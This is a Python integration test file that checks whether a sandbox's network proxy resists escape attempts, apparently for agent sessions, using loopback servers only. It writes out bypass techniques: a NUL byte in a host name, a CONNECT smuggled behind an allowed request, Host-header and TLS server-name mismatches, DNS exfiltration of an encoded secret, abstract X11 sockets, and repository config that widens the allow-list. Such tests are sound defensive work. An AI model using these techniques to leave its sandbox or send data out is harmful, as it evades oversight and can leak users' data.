"""Ways out of the sandbox through the network: past the proxy, and past what it allows.

See ``test_sandbox_escapes``, whose table continues here. All servers are on this computer's loopback, so
that nothing is asked of anybody else. A server counts as reached when what the session has sent has come to it.
"""

from __future__ import annotations

import functools
import os
import select
import socket
import threading
from typing import Any

import pytest

from cowork.backends.bwrap import network
from tests.support.escape import (
    Escape,
    Mode,
    Scene,
    Tried,
    check,
    incomplete,
    params,
    undefended,
    without_network_namespace,
)

pytestmark = [pytest.mark.bwrap, pytest.mark.integration, pytest.mark.usefixtures("ordinary")]

_ANSWER = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello"


class Server:
    """Answers whatever it is told like a web server, and keeps it."""

    def __init__(self, made: Scene) -> None:
        self.got = b""
        self._sock = made.stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        self.port: int = self._sock.getsockname()[1]
        self._stop, ours = socket.socketpair()
        self._thread = threading.Thread(target=self._serve, args=(ours,))
        self._thread.start()
        made.stack.callback(self.close)

    def close(self) -> None:
        """End it; everything that has come is in ``got`` then."""
        self._stop.close()
        self._thread.join()

    def _serve(self, stop: socket.socket) -> None:
        poll = select.poll()
        poll.register(stop, select.POLLIN)
        poll.register(self._sock, select.POLLIN)
        with stop:
            while stop.fileno() not in (ready := dict(poll.poll())) or self._sock.fileno() in ready:
                if self._sock.fileno() in ready:
                    self._answer(self._sock.accept()[0])

    def _answer(self, client: socket.socket) -> None:
        client.settimeout(10)
        with client:
            try:
                while more := client.recv(65536):
                    self.got += more
                    client.sendall(_ANSWER)
            except OSError:
                pass


_TALK = """
proxy = sys.argv[1] == "proxy"
def read_all(s):
    said = b""
    s.settimeout(10)
    while True:
        try:
            more = s.recv(65536)
        except ConnectionResetError:
            more = b""
        if not more:
            return said
        said += more
        if said.endswith(b"hello"):
            return said
def head(s):
    said = b""
    while not said.endswith(b"\\r\\n\\r\\n"):
        more = s.recv(1)
        if not more:
            raise OSError("hung up")
        said += more
    if b" 200 " not in said:
        raise OSError(said.split(b"\\r\\n")[0].decode())
def exactly(s, count):
    said = b""
    while len(said) < count:
        more = s.recv(count - len(said))
        if not more:
            raise OSError("hung up")
        said += more
    return said
def opened(how, host, port):
    if not proxy:
        return socket.create_connection((host.strip("[]").partition("\\0")[0], port), 10)
    s = socket.create_connection(("127.0.0.1", 3128), 10)
    if how == "connect":
        s.sendall(f"CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n".encode())
        head(s)
    elif how == "socks":
        name = host.strip("[]").encode("latin-1")
        s.sendall(b"\\5\\1\\0")
        exactly(s, 2)
        s.sendall(b"\\5\\1\\0\\3" + bytes([len(name)]) + name + port.to_bytes(2, "big"))
        code = exactly(s, 10)[1]
        if code:
            raise OSError(f"SOCKS code {code}")
    return s
def send(how, host, port, payload=None, header=None):
    if payload is None:
        target = f"http://{host}:{port}/" if how == "http" and proxy else "/"
        payload = f"GET {target} HTTP/1.1\\r\\nHost: {header or host}\\r\\nConnection: close\\r\\n\\r\\n".encode()
    with opened(how, host, port) as s:
        s.sendall(payload)
        said = read_all(s)
        if not said.endswith(b"hello"):
            raise OSError("answered: " + said[:60].decode("latin-1"))
"""


def _talk(made: Scene, script: str, *args: object, **request: Any) -> Tried:
    return made.python(_TALK + script, "direct" if made.mode == "outside" else "proxy", *args, **request)


_EVERY_WAY = """
port = int(sys.argv[2])
for how in ("http", "connect", "socks"):
    for host in sys.argv[3:]:
        attempt(f"{how} {host}", send, how, host, port)
"""


def _list(allowed: list[str], made: Scene) -> Tried:
    """A server that the list does not name; ``PORT`` in it stands for the server's."""
    server = Server(made)
    rules = [entry.replace("PORT", str(server.port)) for entry in allowed]
    if not made.defended:
        rules.append(f"localhost:{server.port}")
    tried = _talk(made, _EVERY_WAY, server.port, "localhost", allowed_domains=rules)
    server.close()
    if made.mode == "inside":
        assert not server.got
        log = made.network_log()
        for how in ("HTTP", "CONNECT", "SOCKS"):
            assert f"denied {how} localhost:{server.port}" in log, log
    return tried


def _private(made: Scene) -> Tried:
    """The computer's own addresses, where everything else is allowed."""
    server = Server(made)
    hosts = ["localhost", "127.0.0.1", "0.0.0.0"]
    if _has_mapped_addresses():
        hosts.append("[::ffff:127.0.0.1]")
    tried = _talk(made, _EVERY_WAY, server.port, *hosts, allowed_domains=["*", "*.localhost"])
    server.close()
    assert made.mode != "inside" or not server.got
    return tried


def _has_mapped_addresses() -> bool:
    try:
        with socket.socket(socket.AF_INET6) as sock:
            sock.bind(("::ffff:127.0.0.1", 0))
    except OSError:
        return False
    return True


def _public_is_all(made: Scene) -> None:
    made.patch_holder('from cowork.proxy import outbound; outbound.why_not_public = lambda address: ""')


_NUL = """
attempt("socks", send, "socks", "localhost\\0.allowed.example", int(sys.argv[2]))
"""
_C_STRINGS = """
from cowork.proxy import madeup, outbound, resolver, server, socks
madeup.MadeUp.name = lambda self, address: None
outbound.why_not_public = lambda address: ""
socks.canonical_host = lambda raw: raw.decode("latin-1")
server.serve.__kwdefaults__["lookup"] = lambda host: resolver.system_lookup(host.partition(chr(0))[0])
"""


def _nul(made: Scene) -> Tried:
    """A name that ends in an allowed one for who looks at all of it, and at the NUL for who connects."""
    server = Server(made)
    tried = _talk(made, _NUL, server.port, allowed_domains=["*.allowed.example"])
    server.close()
    return tried


def _c_strings(made: Scene) -> None:
    made.patch_holder(_C_STRINGS)


_TWO = """
port = int(sys.argv[2])
first = "http://allowed.example/" if proxy else "/"
payload = f"GET {first} HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"
payload += "CONNECT denied.example:443 HTTP/1.1\\r\\nHost: denied.example\\r\\n\\r\\n"
attempt("send", send, "http", "127.0.0.1", port, payload.encode())
"""


def _relayed(made: Scene) -> Tried:
    """A CONNECT behind an allowed request, on the connection to the company's proxy."""
    server = Server(made)
    made.jail.configure(f'[network]\nproxy = "http://127.0.0.1:{server.port}"\n')
    _talk(made, _TWO, server.port, allowed_domains=["allowed.example"])
    server.close()
    assert b"allowed.example" in server.got
    return {"the other request": "" if b"denied.example" in server.got else "not sent on"}


def _no_end(made: Scene) -> None:
    made.patch_holder("from cowork.proxy import filters; filters.OneRequest.feed = lambda self, data: bytes(data)")


_FRONTED = """
attempt("send", send, "http", "localhost", int(sys.argv[2]), None, "denied.example")
"""


def _host_header(made: Scene) -> Tried:
    """An allowed host, with another one in the request's head."""
    server = Server(made)
    _talk(made, _FRONTED, server.port, allowed_domains=[f"localhost:{server.port}"])
    server.close()
    assert server.got.startswith(b"GET / ")
    return {"the other host": "" if b"denied.example" in server.got else "not sent on"}


def _host_is_kept(made: Scene) -> None:
    made.patch_holder("from cowork.proxy import http; http._HOP_HEADERS = set()")


_HELLO = """
import ssl
context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
for how in ("connect", "socks"):
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname="denied.example").do_handshake()
    except ssl.SSLWantReadError:
        pass
    attempt(how, send, how, "localhost", int(sys.argv[2]), outgoing.read())
"""


def _server_name(made: Scene) -> Tried:
    """TLS for another host in a connection to an allowed one."""
    server = Server(made)
    tried = _talk(made, _HELLO, server.port, allowed_domains=[f"localhost:{server.port}"])
    server.close()
    assert made.mode != "inside" or b"denied.example" not in server.got
    return tried


def _no_look_at_names(made: Scene) -> None:
    made.patch_holder("from cowork.proxy import filters; filters.HelloGate._check = lambda self, name: None")


_ASK = """
def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0\\1\\0\\1"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(10)
    s.connect(("127.0.0.1", 53 if proxy else int(sys.argv[2])))
    s.send(question("c2vjcmv0.denied.example"))
    if proxy:
        s.recv(1000)
"""
_TELLING_LOOKUP = """
import socket
from cowork.proxy import server
def lookup(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(host.encode(), ("127.0.0.1", {port}))
    raise socket.gaierror(socket.EAI_NONAME, "no such name")
server.serve.__kwdefaults__["lookup"] = lookup
"""


def _name_server(made: Scene) -> Tried:
    """A secret in the name that is asked for, whatever the answer."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
        resolver.bind(("127.0.0.1", 0))
        port = resolver.getsockname()[1]
        # The host's resolver is one that tells of every name it is asked for.
        made.patch_holder(_TELLING_LOOKUP.format(port=port))
        _talk(made, _ASK, port, allowed_domains=["allowed.example"])
        if made.mode == "inside":
            assert "denied DNS c2vjcmv0.denied.example" in made.network_log()
        asked = _datagram(resolver)
    return {"the name is asked for": "" if b"c2vjcmv0" in asked else "nobody was asked"}


def _datagram(sock: socket.socket) -> bytes:
    """What has come; all of it was sent before the session ended."""
    return sock.recv(1000) if select.select([sock], [], [], 0)[0] else b""


def _every_name_is_asked(made: Scene) -> None:
    made.patch_holder("from cowork.proxy import rules; rules.Policy.may_be_resolved = lambda self, host: True")


_DIRECT = """
attempt("TCP", lambda: socket.create_connection(("127.0.0.1", int(sys.argv[1])), 5) and None)
attempt("TCP by name", lambda: socket.create_connection(("localhost", int(sys.argv[1])), 5) and None)
attempt("abstract X11 socket", connect, bytes.fromhex(sys.argv[3]))
attempt("abstract datagrams", connect, bytes.fromhex(sys.argv[4]), socket.SOCK_DGRAM)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", ("127.0.0.1", int(sys.argv[2])))
"""


def _direct(made: Scene) -> Tried:
    """The host's own network: loopback services, datagrams, abstract sockets."""
    server = Server(made)
    names = [b"\0/tmp/.X11-unix/cw" + os.urandom(8).hex().encode(), b"\0cw" + os.urandom(8).hex().encode()]
    made.socket_at(names[0])
    made.socket_at(names[1], socket.SOCK_DGRAM)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", 0))
        ports = server.port, datagrams.getsockname()[1]
        tried = made.python(_DIRECT, *ports, *(name.hex() for name in names), allowed_domains=["*"])
        tried["UDP"] = "" if _datagram(datagrams) else "nothing has come"
    return tried


def _project_list(made: Scene) -> Tried:
    """A repository's file names more hosts than the client."""
    server = Server(made)
    listed = f'[network]\nallow = ["*", "localhost:{server.port}"]\ndefault = "open"\n'
    (made.jail.workspace / ".cowork.toml").write_text(listed)
    tried = _talk(made, _EVERY_WAY, server.port, "localhost", allowed_domains=["allowed.example"])
    server.close()
    return tried


def _project_adds(made: Scene) -> None:
    real = network.policy

    def policy(allowed: Any, settings: Any, tighter: Any, env: Any) -> network.Policy:
        return real([*allowed, *(rule for rules in tighter for rule in rules)], settings, [], env)

    made.patch.setattr(network, "policy", policy)


MATRIX: dict[str, list[Escape]] = {
    "Proxy allow-list bypass": [
        Escape("empty-list", functools.partial(_list, []), undefended),
        Escape("other-list", functools.partial(_list, ["allowed.example", "*.localhost", "localhost:1"]), undefended),
        Escape("private-address", _private, _public_is_all),
        Escape("NUL-in-name", _nul, _c_strings),
        Escape("relayed-CONNECT", _relayed, _no_end),
        Escape("Host-header", _host_header, _host_is_kept),
        Escape("server-name", _server_name, _no_look_at_names),
        Escape("name-server", _name_server, _every_name_is_asked),
    ],
    "X11 socket and abstract sockets": [Escape("direct", _direct, without_network_namespace)],
    "Untrusted repo weakens policy": [Escape("project-list", _project_list, _project_adds)],
}
"""Continues the table of ``test_sandbox_escapes``."""


@pytest.mark.parametrize(("escape", "mode"), params(MATRIX))
def test_escape(escape: Escape, mode: Mode) -> None:
    check(escape, mode)


def test_every_row_has_its_three_parts() -> None:
    assert not incomplete(MATRIX)
